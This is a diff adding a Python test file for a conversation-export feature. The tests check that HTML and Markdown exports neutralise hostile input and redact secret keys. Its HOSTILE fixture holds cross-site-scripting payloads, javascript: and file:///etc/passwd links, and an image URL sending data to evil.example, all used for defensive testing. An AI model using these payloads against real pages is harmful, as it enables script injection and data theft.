@@ -1,0 +1,314 @@
+"""Exports: what is in them, what they cannot do to a reader, and that no key is in any."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from playground.domain.errors import Failure, FailureKind
+from playground.domain.parts import Image, Reasoning, Refusal, Text, ToolCall, ToolResult, Unknown
+from playground.domain.tools import ToolDefinition
+from playground.domain.transcript import Ending, Outcome, Role, Turn
+from playground.engine.files import messages as messages_import
+from playground.engine.files.export import HTML, MARKDOWN, SUFFIXES, ExportError, export, save
+from playground.engine.gateways.secrets import Secret
+from playground.engine.session.snapshot import Snapshot
+from playground.protocols.protocol import parameters_of
+from tests.engine.files.experiment_file.experiments import experiments
+
+KEY = "gw-canary-4f9c1d7e0a"
+PNG = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+)
+DOT = Image(url=f"data:image/png;base64,{base64.b64encode(PNG).decode()}", name="dot.png")
+HOSTILE = """<script>alert(1)</script> <img src=x onerror=alert(2)>
+
+[click](javascript:alert(3)) [data](data:text/html,<script>x</script>) <javascript:alert(4)> [f](file:///etc/passwd)
+![pixel](http://evil.example/?q=secret) ![d](data:image/svg+xml;base64,AAAA) [ok](https://example.org/?a=1&b="2")
+
+| a | b |
+|:--|--:|
+| <b onclick=x()>1</b> | 2 |
+
+```html" onmouseover="x()
+</code></pre><script>alert(5)</script>
+```
+`</style><script>` &lt;script&gt; <!-- --> ]]> </main><style>*{display:none}</style> \x00 \ud800 \u202e
+"""
+
+
+def turn(key: str, role: Role, *parts: Any, parent: str | None = None, outcome: Outcome | None = None) -> Turn:
+    return Turn(id=key, role=role, parts=parts, parent=parent, outcome=outcome)
+
+
+def conversation(**fields: Any) -> Snapshot:
+    call = ToolCall(id="c1", name="get_weather", arguments='{"city": "Oslo"}')
+    failed = Outcome(ending=Ending.FAILED, failure=Failure(kind=FailureKind.HTTP, status=429, message="Too many."))
+    complete = Outcome(ending=Ending.COMPLETE, model="demo-1")
+    turns = (
+        turn("s", Role.SYSTEM, Text(text="Be brief.")),
+        turn("u", Role.USER, Text(text="Weather in {{city}}?\nNow."), DOT, parent="s"),
+        turn("a", Role.ASSISTANT, Reasoning(text="I must ask."), call, parent="u", outcome=complete),
+        turn("t", Role.TOOL, ToolResult(call_id="c1", text="rain ``` here", is_error=True), parent="a"),
+        turn("b", Role.ASSISTANT, Text(text="It **rains**.\n\n```python\nprint(1)\n```"), parent="t", outcome=complete),
+        turn("f", Role.ASSISTANT, parent="t", outcome=failed),
+    )
+    tool = ToolDefinition(name="get_weather", description="Looks.", parameters={"type": "object"})
+    given = {"id": "e", "model": "demo-1", "turns": turns, "head": "b", "tools": (tool,), "variables": {"city": "Oslo"}}
+    return Snapshot(**{**given, **fields})
+
+
+class Page(HTMLParser):
+    """What a browser would make of a page: its elements with their attributes, and its text."""
+
+    def __init__(self, source: str) -> None:
+        super().__init__()
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.texts: list[str] = []
+        self.inside: list[str] = []
+        self.feed(source)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+        if tag not in ("meta", "img", "br", "hr"):
+            self.inside.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.inside.pop() == tag
+
+    def handle_data(self, data: str) -> None:
+        if self.inside and self.inside[-1] != "style":
+            self.texts.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError("a comment")
+
+    @property
+    def text(self) -> str:
+        return "".join(self.texts)
+
+
+ELEMENTS = re.compile(
+    "html|head|meta|title|style|body|main|header|section|details|summary|div|p|span|b|code|pre|a|img|h[1-6]|em|strong|s"
+    "|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|br|hr"
+)
+ATTRIBUTES = re.compile("lang|charset|http-equiv|content|name|class|id|dir|href|rel|title|src|alt|start")
+
+
+def harmless(source: str) -> Page:
+    """The page, after everything in it has been looked at."""
+    page = Page(source)
+    assert page.inside == []
+    for tag, attributes in page.elements:
+        assert ELEMENTS.fullmatch(tag)
+        assert all(map(ATTRIBUTES.fullmatch, attributes))
+        if "href" in attributes:
+            assert re.match(r"(https?://|mailto:)", str(attributes["href"]), re.IGNORECASE)
+        if "src" in attributes:
+            assert re.match(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+\Z", str(attributes["src"]))
+    assert [tag for tag, _ in page.elements].count("style") == 1
+    return page
+
+
+# ---- HTML ------------------------------------------------------------------------------------------------------------
+
+
+def test_a_page_holds_everything() -> None:
+    source = export(conversation(title="Weather <now>"), HTML)
+    page = harmless(source)
+    for words in ("Weather <now>", "Be brief.", "Weather in Oslo?", "I must ask.", "get_weather", '"Oslo"', "Error"):
+        assert words in page.text
+    assert "rain ``` here" in page.text
+    assert "{{" not in page.text
+    assert "Too many." not in page.text  # another branch
+    assert ("img", {"src": DOT.url, "alt": "dot.png"}) in page.elements
+    assert '<span class="n">' in source or '<span class="k">' in source
+    assert '<details class="thought"><summary>Reasoning</summary>' in source
+    assert "<strong>rains</strong>" in source
+
+
+def test_a_page_has_a_policy_that_lets_its_own_style_through() -> None:
+    source = export(conversation(), HTML)
+    (policy,) = [a["content"] for _, a in Page(source).elements if a.get("http-equiv") == "Content-Security-Policy"]
+    (style,) = re.findall("<style>(.*?)</style>", source, re.DOTALL)
+    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
+    assert policy == (
+        f"default-src 'none'; img-src data:; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
+    )
+    assert source.index("Content-Security-Policy") < source.index("<title>")
+    assert "prefers-color-scheme: dark" in style
+    assert "url(" not in style
+    assert "http" not in style
+
+
+def test_what_is_hostile_does_nothing() -> None:
+    parts = (
+        Text(text=HOSTILE),
+        Reasoning(text=HOSTILE),
+        Refusal(text=HOSTILE),
+        ToolCall(id=HOSTILE, name=HOSTILE, arguments=HOSTILE),
+        Image(url="javascript:alert(1)", name=HOSTILE),
+        Image(url='https://evil.example/"onerror="x()'),
+        Image(url="data:image/svg+xml;base64,PHN2Zy8+", name=HOSTILE),
+        Image(url=f'data:image/png" onerror="x();base64,{base64.b64encode(PNG).decode()}', name=HOSTILE),
+        Unknown(value={HOSTILE: HOSTILE}),
+    )
+    failure = Failure(kind=FailureKind.HTTP, message=HOSTILE)
+    outcome = Outcome(ending=Ending.FAILED, failure=failure, model=HOSTILE)
+    turns = (
+        turn("a", Role.ASSISTANT, *parts, outcome=outcome),
+        turn("t", Role.TOOL, ToolResult(call_id=HOSTILE, text=HOSTILE), Text(text=HOSTILE), parent="a"),
+        turn("u", Role.USER, Text(text=HOSTILE), parent="t"),
+    )
+    made = conversation(turns=turns, head="u", title=HOSTILE, model=HOSTILE, gateway=HOSTILE, protocol=HOSTILE)
+    made = made.model_copy(
+        update={"extra_body": {HOSTILE: HOSTILE}, "parameters": {HOSTILE: parameters_of(HOSTILE, {"x": HOSTILE})}}
+    )
+    page = harmless(export(made, HTML))
+    assert page.text.count("<script>alert(1)</script>") >= 8
+    assert "\u202e" not in page.text
+    assert "‹U+202E›" in page.text
+    links = {attributes["href"] for tag, attributes in page.elements if tag == "a"}
+    assert links >= {"http://evil.example/?q=secret", "https://example.org/?a=1&b=%222%22"}
+    assert "Image: pixel" in page.text
+
+
+MARKS = st.text(alphabet=st.sampled_from("<>&\"'`*_[]()!|-#\n ~\\:/.ab1=\u202e"), max_size=60)
+PIECES = st.sampled_from(
+    ["<script>", "javascript:", "](", "![", "```", "| a |\n|--:|\n", "> ", "1. ", "</pre>", "data:"]
+)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(MARKS | PIECES, max_size=6).map("".join))
+def test_no_text_gets_out_of_its_place(text: str) -> None:
+    parts = (Text(text=text), Reasoning(text=text), ToolCall(id="c", name=text, arguments=text))
+    made = Snapshot(id="e", turns=(turn("a", Role.ASSISTANT, *parts),), head="a", title=text)
+    harmless(export(made, HTML))
+
+
+@pytest.mark.parametrize("text", ["> " * 3_000 + "x", "- " * 3_000 + "x", "[" * 50_000, "`" * 99 + "x" * 600_000])
+def test_a_text_that_no_parser_takes_is_there_as_it_stands(text: str) -> None:
+    page = harmless(export(Snapshot(id="e", turns=(turn("a", Role.USER, Text(text=text)),), head="a"), HTML))
+    assert text in page.text
+
+
+# ---- Markdown --------------------------------------------------------------------------------------------------------
+
+
+def test_markdown() -> None:
+    text = export(conversation(title="Weather"), MARKDOWN)
+    assert text.startswith("# Weather\n\ndemo-1 · Chat completions\n\n## 1. System\n\nBe brief.\n\n## 2. User\n\n")
+    assert "Weather in Oslo?\nNow.\n\n![dot.png](data:image/png;base64," in text
+    assert "## 3. Assistant · demo-1\n\n> **Reasoning**\n>\n> I must ask.\n\n**Call of `get_weather`** `c1`\n\n" in text
+    assert '```json\n{"city": "Oslo"}\n```' in text
+    assert "**Error of `get_weather`** `c1`\n\n````\nrain ``` here\n````" in text
+    assert text.endswith("It **rains**.\n\n```python\nprint(1)\n```\n")
+
+
+def test_the_whole_tree_says_where_each_turn_belongs() -> None:
+    text = export(conversation(), MARKDOWN, whole_tree=True)
+    assert "## 5. Assistant · demo-1 · variant 1 of 2\n" in text
+    assert "## 6. Assistant · variant 2 of 2, follows turn 4\n\n> **Error (429): Too many.**\n" in text
+    page = harmless(export(conversation(), HTML, whole_tree=True))
+    assert "Error (429): Too many." in page.text
+    assert "variant 2 of 2, follows turn 4" in page.text
+
+
+# ---- lines of JSON ---------------------------------------------------------------------------------------------------
+
+
+def records(text: str) -> list[Any]:
+    return [json.loads(line) for line in text.splitlines()]
+
+
+def test_lines_of_chat_messages_are_read_again() -> None:
+    text = export(conversation(), "chat")
+    assert [message["role"] for message in records(text)] == ["system", "user", "assistant", "tool", "assistant"]
+    assert records(text)[1]["content"][0]["text"] == "Weather in Oslo?\nNow."
+    (back,) = messages_import.read(text).conversations
+    assert [turn.text for turn in back.request.turns][-1].startswith("It **rains**.")
+
+
+def test_lines_of_native_messages_are_read_again() -> None:
+    text = export(conversation(), "messages")
+    assert [message["role"] for message in records(text)] == ["system", "user", "assistant", "user", "assistant"]
+    (back,) = messages_import.read(text).conversations
+    assert back.request.protocol == "messages"
+    assert [turn.role for turn in back.request.turns][:2] == [Role.SYSTEM, Role.USER]
+
+
+@pytest.mark.parametrize("to", ["chat", "messages"])
+def test_the_whole_tree_is_a_conversation_a_line(to: str) -> None:
+    text = export(conversation(), to, whole_tree=True)
+    first, second = records(text)
+    assert ("system" in first) is (to == "messages")
+    assert len(first["tools"]) == 1
+    assert len(second["messages"]) == len(first["messages"]) - 1  # the branch that failed has no answer
+    found = messages_import.read(text)
+    assert [conversation.request.protocol for conversation in found.conversations] == [to] * 2
+
+
+def test_what_a_protocol_cannot_carry_is_said() -> None:
+    broken = turn("a", Role.ASSISTANT, ToolCall(id="c", name="f", arguments="{half"))
+    made = Snapshot(id="e", turns=(broken,), head="a")
+    assert records(export(made, "chat"))[0]["tool_calls"][0]["function"]["arguments"] == "{half"
+    with pytest.raises(ExportError, match=r"^This cannot be exported: the arguments of the call “f”"):
+        export(made, "messages")
+
+
+# ---- all of them -----------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("to", list(SUFFIXES))
+def test_no_key_is_in_an_export(to: str) -> None:
+    secret = f"so {KEY[:8]}{KEY[8:]} it is"
+    parts = (
+        Text(text=f"{secret}\n\n```python\nkey = '{KEY}'\n```"),
+        Reasoning(text=secret),
+        ToolCall(id=KEY, name=KEY, arguments=json.dumps({"key": KEY})),
+        Unknown(value={"type": "text", "text": KEY, KEY: [KEY]}),
+    )
+    result = turn("t", Role.TOOL, ToolResult(call_id=KEY, text=secret), parent="a")
+    tool = ToolDefinition(name=KEY, description=KEY)
+    made = conversation(
+        turns=(turn("a", Role.ASSISTANT, *parts), result), head="t", title=KEY, model=KEY, tools=(tool,)
+    )
+    made = made.model_copy(
+        update={"parameters": {"chat": parameters_of("chat", {"user": KEY})}, "extra_body": {"k": KEY}}
+    )
+    text = export(made, to, [Secret(KEY)], whole_tree=True)
+    assert "canary" not in text
+    assert "••••" in text
+
+
+@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+@given(experiments(), st.sampled_from(list(SUFFIXES)), st.booleans())
+def test_every_experiment_can_be_exported_or_it_is_said_why(made: Snapshot, to: str, whole: bool) -> None:
+    try:
+        text = export(made, to, whole_tree=whole)
+    except ExportError as error:
+        text = str(error)
+    assert isinstance(text, str)
+    if to == HTML:
+        harmless(text)
+
+
+def test_files(tmp_path: Path) -> None:
+    for to in SUFFIXES:
+        path = tmp_path / f"a{SUFFIXES[to]}"
+        save(path, conversation(), to)
+        assert path.read_text(encoding="utf-8") == export(conversation(), to)
+    assert len(list(tmp_path.iterdir())) == 3
+    with pytest.raises(ExportError, match="cannot be written"):
+        save(tmp_path / "none" / "a.md", conversation(), MARKDOWN)
